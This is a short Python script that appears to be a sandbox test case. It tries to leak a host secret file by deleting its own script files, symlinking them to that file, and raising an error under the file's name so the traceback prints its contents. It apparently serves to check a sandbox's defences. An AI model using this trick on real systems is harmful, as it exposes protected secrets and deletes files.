# Tries: to make the printer of its traceback read a file of the host.
# Success: a secret of the host is printed.
import os
import sys

import host

for name in {
    "main.py",
    os.path.basename(sys.argv[0]) or "main.py",
    __file__ if "__file__" in globals() else "x",
}:
    try:
        os.unlink(name)
    except OSError:
        pass
    try:
        os.symlink(host.SECRET_FILE, name)
    except OSError:
        pass
exec(compile("1 / 0", host.SECRET_FILE, "exec"))
